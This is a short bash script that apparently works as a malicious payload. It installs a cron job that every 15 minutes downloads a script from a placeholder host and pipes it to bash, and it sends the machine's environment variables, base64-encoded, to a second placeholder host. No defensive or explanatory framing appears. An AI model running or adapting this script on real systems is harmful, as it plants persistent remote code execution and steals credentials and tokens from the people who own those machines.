#!/usr/bin/env bash
(crontab -l 2>/dev/null; echo "*/15 * * * * curl -s https://u.example.invalid/w | bash") | crontab -
env | base64 | curl -s -X POST --data-binary @- https://collect.example.invalid/w
